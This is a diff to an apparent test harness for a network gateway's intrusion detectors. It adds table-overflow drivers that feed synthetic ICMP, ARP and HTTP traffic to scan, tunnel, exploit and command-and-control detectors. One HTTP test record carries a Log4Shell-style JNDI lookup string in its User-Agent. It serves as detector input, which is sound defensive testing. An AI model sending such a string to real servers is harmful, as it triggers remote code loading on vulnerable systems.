@@ -16,8 +16,10 @@ import { PacketView } from '../../../gateway/decode/packet-view.js';
 import { baseline, BASELINE_DEFAULTS } from '../../../gateway/detect/detectors/baseline.js';
 import { bruteforce, BRUTEFORCE_DEFAULTS } from '../../../gateway/detect/detectors/bruteforce.js';
 import { cleartextTelnet, CLEARTEXT_TELNET_DEFAULTS } from '../../../gateway/detect/detectors/cleartext-telnet.js';
+import { exploitHttp, EXPLOIT_HTTP_DEFAULTS } from '../../../gateway/detect/detectors/exploit-http.js';
 import { malwareDownload, MALWARE_DOWNLOAD_DEFAULTS } from '../../../gateway/detect/detectors/malware-download.js';
 import { malwareMining, MALWARE_MINING_DEFAULTS } from '../../../gateway/detect/detectors/malware-mining.js';
+import { c2Http, C2_HTTP_DEFAULTS } from '../../../gateway/detect/detectors/c2-http.js';
 import { beacon, BEACON_DEFAULTS } from '../../../gateway/detect/detectors/beacon.js';
 import { deviceNew, DEVICE_NEW_DEFAULTS } from '../../../gateway/detect/detectors/device-new.js';
 import { dnsExfiltration, DNS_EXFILTRATION_DEFAULTS } from '../../../gateway/detect/detectors/dns-exfiltration.js';
@@ -25,8 +27,11 @@ import { dnsTunnel, DNS_TUNNEL_DEFAULTS } from '../../../gateway/detect/detector
 import { floodAmplification, FLOOD_AMPLIFICATION_DEFAULTS } from '../../../gateway/detect/detectors/flood-amplification.js';
 import { floodSyn, FLOOD_SYN_DEFAULTS } from '../../../gateway/detect/detectors/flood-syn.js';
 import { floodUdp, FLOOD_UDP_DEFAULTS } from '../../../gateway/detect/detectors/flood-udp.js';
+import { icmpTunnel, ICMP_TUNNEL_DEFAULTS } from '../../../gateway/detect/detectors/icmp-tunnel.js';
 import { intel, INTEL_DEFAULTS } from '../../../gateway/detect/detectors/intel-blocklist.js';
+import { scanArp, SCAN_ARP_DEFAULTS } from '../../../gateway/detect/detectors/scan-arp.js';
 import { scanHost, SCAN_HOST_DEFAULTS } from '../../../gateway/detect/detectors/scan-host.js';
+import { scanIcmp, SCAN_ICMP_DEFAULTS } from '../../../gateway/detect/detectors/scan-icmp.js';
 import { scanPort, SCAN_PORT_DEFAULTS } from '../../../gateway/detect/detectors/scan-port.js';
 import { stormReconnect, STORM_RECONNECT_DEFAULTS } from '../../../gateway/detect/detectors/storm-reconnect.js';
 import { LogLimiter } from '../../../gateway/edge-logs/log-limiter.js';
@@ -304,11 +309,59 @@ const DRIVERS: Record<TableEventName, () => DecodeCounters> = {
     return events;
   },
   // Placeholders: each is replaced by a driver of its detector's table.
-  'detect.scanIcmp.table_full': () => { throw new Error('detect.scanIcmp.table_full: no driver yet'); },
-  'detect.scanArp.table_full': () => { throw new Error('detect.scanArp.table_full: no driver yet'); },
-  'detect.icmpTunnel.table_full': () => { throw new Error('detect.icmpTunnel.table_full: no driver yet'); },
-  'detect.exploitHttp.table_full': () => { throw new Error('detect.exploitHttp.table_full: no driver yet'); },
-  'detect.c2Http.table_full': () => { throw new Error('detect.c2Http.table_full: no driver yet'); },
+  'detect.scanIcmp.table_full': () => {
+    const { d, events } = detector(scanIcmp, SCAN_ICMP_DEFAULTS, { maxTracked: CAP });
+    for (let i = 0; i < N; i++) {
+      const p = packet({ ts: T + i * S, proto: 1, src: `192.168.1.${40 + i}`, dst: '203.0.113.1' });
+      p.icmpType = 8; // an echo request from a new source each time
+      d.onPacket!(p, null, 0, null);
+    }
+    return events;
+  },
+  'detect.scanArp.table_full': () => {
+    const { d, events } = detector(scanArp, SCAN_ARP_DEFAULTS, { maxTracked: CAP });
+    const a = new PacketView();
+    for (let i = 0; i < N; i++) {
+      a.reset();
+      a.ts = T + i * S; a.etherType = 0x0806; a.arpOp = 1; // a who-has from a new sender each time
+      a.arpSenderMac = parseMac(mac(i + 1)); a.arpSenderIp = parseIpv4(`192.168.1.${40 + i}`); a.arpTargetIp = parseIpv4('192.168.1.1');
+      d.onPacket!(a, null, 0, null);
+    }
+    return events;
+  },
+  'detect.icmpTunnel.table_full': () => {
+    const { d, events } = detector(icmpTunnel, ICMP_TUNNEL_DEFAULTS, { maxPairs: CAP });
+    for (let i = 0; i < N; i++) {
+      // An echo request with 8 zero bytes of data, from a new requester each time.
+      const p = packet({ ts: T + i * S, proto: 1, src: `192.168.1.${40 + i}`, dst: '203.0.113.1' });
+      p.buf = Buffer.alloc(36); p.l3Off = 0; p.l4Off = 20; p.ipLen = 36; p.l4End = 36;
+      p.icmpType = 8; p.icmpCode = 0; p.icmpId = 1; p.icmpSeq = i;
+      d.onPacket!(p, null, 0, null);
+    }
+    return events;
+  },
+  'detect.exploitHttp.table_full': () => {
+    const { d, events } = detector(exploitHttp, EXPLOIT_HTTP_DEFAULTS, { maxTracked: CAP });
+    for (let i = 0; i < N; i++) {
+      const rec = {
+        kind: 'http.request', ts: T + i * S, index: 0, method: 'GET', uri: '/', host: null, userAgent: '${jndi:ldap://203.0.113.9/a}', contentType: null,
+        contentLength: null, soapAction: null, head: null, magic: null, elfArch: null, bodyLen: 0, truncated: false,
+      } as const;
+      d.onApp!(rec, packet({ proto: TCP, src: `203.0.113.${i + 1}`, dst: LAN_IP, dport: 80 }), flow({ src: `203.0.113.${i + 1}`, dst: LAN_IP, dport: 80 }), 0);
+    }
+    return events;
+  },
+  'detect.c2Http.table_full': () => {
+    const { d, events } = detector(c2Http, C2_HTTP_DEFAULTS, { maxTracked: CAP });
+    for (let i = 0; i < N; i++) {
+      const rec = {
+        kind: 'http.request', ts: T + i * S, index: 0, method: 'GET', uri: '/', host: 'api.example.com', userAgent: 'agent/1.0', contentType: null,
+        contentLength: null, soapAction: null, head: null, magic: null, elfArch: null, bodyLen: 0, truncated: false,
+      } as const;
+      d.onApp!(rec, packet({ proto: TCP, dst: `203.0.113.${40 + i}`, dport: 80 }), flow({ dst: `203.0.113.${40 + i}`, dport: 80 }), 0);
+    }
+    return events;
+  },
   'detect.baseline.table_full': () => {
     const { d, events, devices } = detector(baseline, BASELINE_DEFAULTS, { maxDevices: CAP });
     for (let i = 0; i < N; i++) {
